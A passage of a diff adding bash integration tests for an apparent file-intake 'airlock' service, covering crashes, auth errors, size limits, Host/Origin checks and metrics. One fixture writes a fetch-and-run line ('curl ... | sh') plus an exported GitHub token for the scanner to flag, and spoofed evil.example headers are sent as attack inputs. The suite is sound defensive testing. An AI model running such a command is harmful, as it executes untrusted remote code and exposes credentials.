+print(" ".join(map(str, sorted(ids))))
+EOF
+	api GET '/v1/submissions?limit=1000' "$ADMIN"
+	expect_code 200
+	expect_all '" ".join(map(str, sorted(s["id"] for s in d["submissions"])))' "$(cat ids)"
+	for i in $(seq 1 600); do
+		[ "$(count_state held)" = $n ] && break
+		sleep 0.1
+	done
+	expect_all 'len(d["submissions"])' $n \
+		'sum(s["verdict"] == "flagged" for s in d["submissions"])' $((n / 5)) \
+		'sum(s["verdict"] == "clean" for s in d["submissions"])' $((n - n / 5))
+	expect_eq "$(nobjects)" $n "files in data/objects"
+	integrity_ok
+	srv_stop
+	integrity_ok
+}
+
+# ---- 7. a crash during an upload ---------------------------------------------------
+
+t_kill9_during_upload() {
+	local i cpid crc=0
+	srv_start
+	mk_token agent agent-1 alice
+	head -c $((5 << 20)) /dev/urandom >big.bin
+	curl -sS --max-time 120 --limit-rate 100k -o up.json -w '%{http_code}' \
+		-H "Authorization: Bearer $TOK" --data-binary @big.bin \
+		"$URL/v1/submissions?name=big.bin" >up.code 2>up.err &
+	cpid=$!
+	BG+=("$cpid")
+	# The upload is under way: bytes in data/tmp.
+	for i in $(seq 1 100); do
+		[ -n "$(find data/tmp -type f -size +10k)" ] && break
+		sleep 0.05
+	done
+	[ -n "$(find data/tmp -type f -size +10k)" ] || fail "no upload in progress in data/tmp"
+	srv_kill9
+	wait "$cpid" || crc=$?
+	BG=()
+	[ "$crc" != 0 ] || fail "the upload succeeded (HTTP $(cat up.code)) although the server was killed"
+	srv_start
+	expect_eq "$(ntmp)" 0 "entries left in data/tmp after the restart"
+	expect_eq "$(nrows submissions)" 0 "submission rows"
+	expect_eq "$(nobjects)" 0 "files in data/objects"
+	integrity_ok
+	api GET /v1/submissions "$ADMIN"
+	expect_code 200
+	expect_all 'd["submissions"]' '[]'
+	echo 'after the crash' >a.txt
+	submit "$TOK" a.txt name=a.txt
+	wait_state "$SID" held
+	srv_stop
+}
+
+# ---- 8. errors change nothing ------------------------------------------------------
+
+t_errors_change_nothing() {
+	local subs objs toks i q
+	srv_start --max-body 1K
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token agent short-lived alice 1s
+	local EXP=$TOK
+	mk_token agent to-revoke alice
+	local REV=$TOK
+	api GET /v1/submissions "$REV"
+	expect_code 200 "the token to revoke works before"
+	api DELETE /v1/tokens/to-revoke "$ADMIN"
+	expect_code 200 "revoke"
+	echo 'ok' >small.txt
+	submit "$AG" small.txt name=small.txt
+	wait_state "$SID" held
+	subs=$(nrows submissions)
+	objs=$(nobjects)
+	toks=$(nrows principals)
+	head -c 2048 /dev/urandom >2k.bin
+	head -c 200000 /dev/urandom >200k.bin
+
+	# Too large.
+	api POST '/v1/submissions?name=2k.bin' "$AG" --data-binary @2k.bin
+	expect_code 413 "2 KB body, --max-body 1K"
+	expect_error_json "$AG"
+	# Chunked, no Content-Length: read and dropped (up to 64 MiB past the
+	# limit, docs/api.md), then 413.
+	api POST '/v1/submissions?name=2k.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @2k.bin
+	expect_code 413 "a chunked 2 KB body"
+	expect_error_json "$AG"
+	api POST '/v1/submissions?name=200k.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @200k.bin
+	expect_code 413 "a chunked 200 KB body"
+	expect_error_json "$AG"
+	{ printf '{"role": "reviewer", "name": "big", "pad": "'; head -c 70000 /dev/zero | tr '\0' x; printf '"}'; } >big.json
+	api POST /v1/tokens "$ADMIN" --data-binary @big.json
+	expect_code 413 "a 70 KB JSON body to /v1/tokens"
+	expect_error_json "$ADMIN"
+
+	# Tokens: missing, malformed, revoked, expired.
+	api POST /v1/submissions "" --data-binary @small.txt
+	expect_code 401 "no token"
+	expect_error_json
+	api POST /v1/submissions "$REV" --data-binary @small.txt
+	expect_code 401 "a revoked token"
+	expect_error_json "$REV"
+	api GET /v1/submissions "$REV"
+	expect_code 401 "a revoked token (list)"
+	sleep 1.2
+	api POST /v1/submissions "$EXP" --data-binary @small.txt
+	expect_code 401 "an expired token (ttl 1s)"
+	expect_error_json "$EXP"
+	api GET /v1/submissions "$EXP"
+	expect_code 401 "an expired token (ttl 1s, list)"
+
+	# DNS rebinding and cross-site requests.
+	api POST /v1/submissions "$AG" -H "Host: evil.example:$PORT" --data-binary @small.txt
+	expect_code 403 "Host: evil.example:$PORT"
+	expect_error_json "$AG" evil.example
+	api GET /healthz "" -H "Host: evil.example:$PORT"
+	expect_code 403 "GET /healthz with Host: evil.example:$PORT"
+	api GET /v1/submissions "$ADMIN" -H "Host: 127.0.0.1:$((PORT == 65535 ? 1 : PORT + 1))"
+	expect_code 403 "a Host with another port"
+	sock GET /v1/submissions "$AG" -H 'Host: evil.example'
+	expect_code 403 "Host: evil.example on the socket"
+	api POST /v1/submissions "$AG" -H 'Origin: http://evil.example' --data-binary @small.txt
+	expect_code 403 "POST with Origin: http://evil.example"
+	expect_error_json "$AG" evil.example
+	api DELETE /v1/tokens/agent-1 "$ADMIN" -H 'Origin: http://evil.example'
+	expect_code 403 "DELETE with Origin: http://evil.example"
+
+	# Malformed requests.
+	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"role": "reviewer", "name": '
+	expect_code 400 "malformed JSON"
+	expect_error_json "$ADMIN"
+	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "r", "on_behalf_of": "alice"}'
+	expect_code 400 "on_behalf_of for a reviewer"
+	expect_error_json "$ADMIN"
+	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "agent", "name": "a"}'
+	expect_code 400 "an agent without on_behalf_of"
+	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "root", "name": "r"}'
+	expect_code 400 "an unknown role"
+	api POST /v1/tokens "$ADMIN" --data-binary '{"role": "reviewer", "name": "agent-1"}'
+	expect_code 409 "a token name that is taken"
+	expect_error_json "$ADMIN"
+	api DELETE /v1/tokens/no-such-name "$ADMIN"
+	expect_code 404 "revoking an unknown name"
+	api DELETE /v1/tokens/to-revoke "$ADMIN"
+	expect_code 409 "revoking twice"
+	api POST '/v1/submissions?kind=exe' "$AG" --data-binary @small.txt
+	expect_code 400 "unknown kind"
+	expect_error_json "$AG"
+	q=name=labels
+	for i in $(seq 1 33); do q="$q&label=k$i=v$i"; done
+	api POST "/v1/submissions?$q" "$AG" --data-binary @small.txt
+	expect_code 413 "33 labels"
+	expect_error_json "$AG"
+	api POST '/v1/submissions?label=novalue' "$AG" --data-binary @small.txt
+	expect_code 400 "a label without ="
+	expect_error_json "$AG"
+	api POST '/v1/submissions?label=bad%20key=v' "$AG" --data-binary @small.txt
+	expect_code 400 "a label key with a space"
+	api POST "/v1/submissions?label=$(printf 'k%.0s' $(seq 1 65))=v" "$AG" --data-binary @small.txt
+	expect_code 400 "a 65-byte label key"
+	api POST "/v1/submissions?name=$(printf 'n%.0s' $(seq 1 256))" "$AG" --data-binary @small.txt
+	expect_code 400 "a 256-byte name"
+	api GET '/v1/submissions?state=bogus' "$ADMIN"
+	expect_code 400 "list with an unknown state"
+	api GET '/v1/submissions?limit=1001' "$ADMIN"
+	expect_code 400 "list with limit 1001"
+
+	# None of it changed anything.
+	expect_eq "$(nrows submissions)" "$subs" "submission rows"
+	expect_eq "$(nobjects)" "$objs" "files in data/objects"
+	expect_eq "$(nrows principals)" "$toks" "principals"
+	expect_eq "$(ntmp)" 0 "entries in data/tmp"
+	[ "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE revoked_at IS NOT NULL")" = 1 ] ||
+		fail "a token other than to-revoke is revoked"
+
+	# And the allowed forms work: other Hosts of the listener, an Origin on
+	# a GET, the gate's own Origin, the exact limit.
+	api GET /v1/submissions "$ADMIN" -H "Host: localhost:$PORT"
+	expect_code 200 "Host: localhost:$PORT"
+	api GET /v1/submissions "$ADMIN" -H 'Origin: http://evil.example'
+	expect_code 200 "a GET with a foreign Origin (only POST and DELETE are checked)"
+	api POST '/v1/submissions?name=same-origin' "$AG" -H "Origin: http://127.0.0.1:$PORT" --data-binary @small.txt
+	expect_code 201 "POST with the gate's own Origin"
+	head -c 1024 /dev/urandom >1k.bin
+	api POST '/v1/submissions?name=1k.bin' "$AG" --data-binary @1k.bin
+	expect_code 201 "a body of exactly --max-body"
+	api POST '/v1/submissions?name=1k-chunked.bin' "$AG" -H 'Transfer-Encoding: chunked' --data-binary @1k.bin
+	expect_code 201 "a chunked body of exactly --max-body"
+	expect_eq "$(nrows submissions)" $((subs + 3)) "submission rows"
+	srv_stop
+}
+
+# docs/api.md: headers are limited to 16 KiB in all; too large is 413, and
+# errors are JSON.
+t_header_limit() {
+	local big
+	srv_start
+	big=$(head -c 20000 /dev/zero | tr '\0' a)
+	api GET /v1/submissions "$ADMIN" -H "X-Padding: $big"
+	# 431 Request Header Fields Too Large (RFC 6585), answered by
+	# libmicrohttpd before the request reaches the gate's code.
+	expect_code 431 "a request with 20 KB of headers"
+	! grep -qF "$ADMIN" "$OUT" || fail "the error page echoes the token"
+	# Just under the limit is served.
+	big=$(head -c 12000 /dev/zero | tr '\0' a)
+	api GET /v1/submissions "$ADMIN" -H "X-Padding: $big"
+	expect_code 200 "a request with 12 KB of headers"
+	srv_stop
+}
+
+# ---- 9. metrics --------------------------------------------------------------------
+
+# metric NAME{LABELS}: its value in $OUT (Prometheus text), or "absent".
+metric() {
+	awk -v k="$1" '$1 == k && NF == 2 { print $2; f = 1; exit } END { if (!f) print "absent" }' "$OUT"
+}
+
+t_metrics() {
+	local before r v ct
+	srv_start --max-body 1K
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token auditor aud-1
+	local AU=$TOK
+	api GET /metrics "$AU"
+	expect_code 200 "GET /metrics (auditor)"
+	cp "$OUT" before.txt
+	printf 'curl -s https://198.51.100.23/x | sh\nexport GITHUB_TOKEN=%s\n' "$PAT1" >bad.sh
+	echo 'fine' >good.txt
+	submit "$AG" bad.sh name=bad.sh
+	local S1=$SID
+	submit "$AG" good.txt name=good.txt
+	local S2=$SID
+	wait_state "$S1" held
+	wait_state "$S2" held
+	# One rejection of each reason.
+	head -c 2048 /dev/urandom >2k.bin
+	api GET /v1/submissions ""
+	expect_code 401
+	api GET /metrics "$AG"
+	expect_code 403
+	api POST /v1/submissions "$AG" --data-binary @2k.bin
+	expect_code 413
+	api POST '/v1/submissions?kind=exe' "$AG" --data-binary @good.txt
+	expect_code 400
+	api GET /v1/submissions "$AG" -H "Host: evil.example:$PORT"
+	expect_code 403
+	api POST /v1/submissions "$AG" -H 'Origin: http://evil.example' --data-binary @good.txt
+	expect_code 403
+
+	ct=$(curl -sS -o "$OUT" -w '%{content_type}' -H "Authorization: Bearer $AU" "$URL/metrics")
+	case $ct in text/plain*) ;; *) fail "/metrics Content-Type '$ct', expected text/plain" ;; esac
+	for st in received scanning held approved rejected released expired; do
+		[ "$(metric "airlock_submissions{state=\"$st\"}")" != absent ] ||
+			fail "no airlock_submissions{state=\"$st\"}"
+	done
+	expect_eq "$(metric 'airlock_submissions{state="held"}')" 2 'airlock_submissions{state="held"}'
+	expect_eq "$(metric airlock_scan_queue_depth)" 0 airlock_scan_queue_depth
+	expect_eq "$(metric 'airlock_scans_total{verdict="flagged"}')" 1 'scans_total flagged'
+	expect_eq "$(metric 'airlock_scans_total{verdict="clean"}')" 1 'scans_total clean'
+	expect_eq "$(metric 'airlock_scans_total{verdict="unscannable"}')" 0 'scans_total unscannable'
+	expect_eq "$(metric airlock_scan_seconds_count)" 2 airlock_scan_seconds_count
+	expect_eq "$(metric 'airlock_scan_seconds_bucket{le="+Inf"}')" 2 'the +Inf bucket'
+	[ "$(metric airlock_scan_seconds_sum)" != absent ] || fail "no airlock_scan_seconds_sum"
+	python3 - "$OUT" <<'EOF' || fail "the histogram buckets are not cumulative, in order"
+import re, sys
+b = [(l.split('"')[1], float(l.split()[-1])) for l in open(sys.argv[1]) if l.startswith("airlock_scan_seconds_bucket{")]
+assert len(b) >= 2 and b[-1][0] == "+Inf"
+les = [float(x) for x, _ in b[:-1]]
+assert les == sorted(les)
+vals = [v for _, v in b]
+assert vals == sorted(vals)
+EOF
+	grep -q '^# TYPE airlock_scan_seconds histogram' "$OUT" || fail "no TYPE histogram line"
+	cp "$OUT" after.txt
+	for r in unauthenticated forbidden too_large bad_request bad_host bad_origin; do
+		OUT=before.txt
+		before=$(metric "airlock_intake_rejections_total{reason=\"$r\"}")
+		OUT=after.txt
+		v=$(metric "airlock_intake_rejections_total{reason=\"$r\"}")
+		[ "$before" != absent ] && [ "$v" != absent ] || fail "no rejection counter for $r"
+		expect_eq "$((v - before))" 1 "increase of airlock_intake_rejections_total{reason=\"$r\"}"
+	done
+	srv_stop
+}
+
+# A request refused as too large (413: 33 labels) counts as too_large.
+t_metrics_label_overflow_is_too_large() {
+	local q i
+	srv_start
+	mk_token agent agent-1 alice
+	q=name=x
+	for i in $(seq 1 33); do q="$q&label=k$i=v$i"; done
+	echo x >x.txt
+	api POST "/v1/submissions?$q" "$TOK" --data-binary @x.txt
+	expect_code 413 "33 labels"
+	api GET /metrics "$ADMIN"
+	expect_code 200
+	expect_eq "$(metric 'airlock_intake_rejections_total{reason="too_large"}')" 1 "too_large after a 413"
+	expect_eq "$(metric 'airlock_intake_rejections_total{reason="bad_request"}')" 0 "bad_request after a 413"
+	srv_stop
+}
+
+# ---- 10. init twice ----------------------------------------------------------------
+
+t_init_twice_changes_nothing() {
+	local key pub
+	srv_init
+	[ "$(stat -c %a data)" = 700 ] || fail "data directory mode $(stat -c %a data)"
+	[ "$(stat -c %a data/keys/signing.key)" = 600 ] || fail "signing.key mode $(stat -c %a data/keys/signing.key)"
+	srv_start
+	mk_token reviewer rev-1
+	local RV=$TOK
+	srv_stop
+	key=$(sha256sum <data/keys/signing.key)
+	pub=$(sha256sum <data/keys/signing.pub)
+	RC=0
+	"$BIN" init --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
+	expect_rc 0 "the second init"
+	expect_out_empty
+	expect_eq "$(sha256sum <data/keys/signing.key)" "$key" "sha256 of signing.key"
+	expect_eq "$(sha256sum <data/keys/signing.pub)" "$pub" "sha256 of signing.pub"
+	expect_eq "$(sqlite3 data/airlock.db "SELECT count(*) FROM principals WHERE role = 'admin'")" 1 "admin principals"
+	srv_start
+	api GET /v1/submissions "$RV"
+	expect_code 200 "the reviewer token made before the second init"
+	api GET /v1/tokens "$ADMIN"
+	expect_code 200 "the first admin token after the second init"
+	expect_all '[t["name"] for t in d["tokens"] if t["name"] == "rev-1"]' "['rev-1']"
+	srv_stop
+}
+
+# ---- 11. SIGTERM with a request in flight -------------------------------------------
+
+t_sigterm_with_upload_in_flight() {
+	local i cpid crc=0 code
+	srv_start
+	mk_token agent agent-1 alice
+	head -c $((1 << 20)) /dev/urandom >up.bin
+	curl -sS --max-time 60 --limit-rate 256k -o up.json -w '%{http_code}' \
+		-H "Authorization: Bearer $TOK" --data-binary @up.bin \
+		"$URL/v1/submissions?name=up.bin" >up.code 2>up.err &
+	cpid=$!
+	BG+=("$cpid")
+	for i in $(seq 1 100); do
+		[ -n "$(find data/tmp -type f -size +10k)" ] && break
+		sleep 0.05
+	done
+	[ -n "$(find data/tmp -type f -size +10k)" ] || fail "no upload in progress in data/tmp"
+	srv_term 15
+	[ "$STOP_RC" != timeout ] || fail "airlock serve still runs 15 s after SIGTERM with an upload in flight"
+	[ "$STOP_RC" = 0 ] || fail "airlock serve exited $STOP_RC after SIGTERM, expected 0"
+	no_leftovers
+	wait "$cpid" || crc=$?
+	BG=()
+	code=$(cat up.code)
+	echo "the upload: curl exit $crc, HTTP $code"
+	case $code in
+	201)
+		# It finished: it is stored and recorded.
+		expect_eq "$(nrows submissions)" 1 "submission rows after a 201"
+		expect_eq "$(nobjects)" 1 "objects after a 201"
+		OUT=up.json expect_all 'd["sha256"]' "$(sha256sum up.bin | cut -d' ' -f1)"
+		;;
+	000 | 5??)
+		# Refused: no trace of it.
+		[ "$code" = 000 ] || OUT=up.json expect_error_json "$TOK"
+		expect_eq "$(nrows submissions)" 0 "submission rows after a refused upload"
+		expect_eq "$(nobjects)" 0 "objects after a refused upload"
+		;;
+	*) fail "the upload in flight got HTTP $code" ;;
+	esac
+	expect_eq "$(ntmp)" 0 "entries left in data/tmp after a clean stop"
+	integrity_ok
+	srv_start
+	api GET /v1/submissions "$ADMIN"
+	expect_code 200
+	expect_all 'len(d["submissions"])' "$(nrows submissions)"
+	srv_stop
+}
+
+run_tests
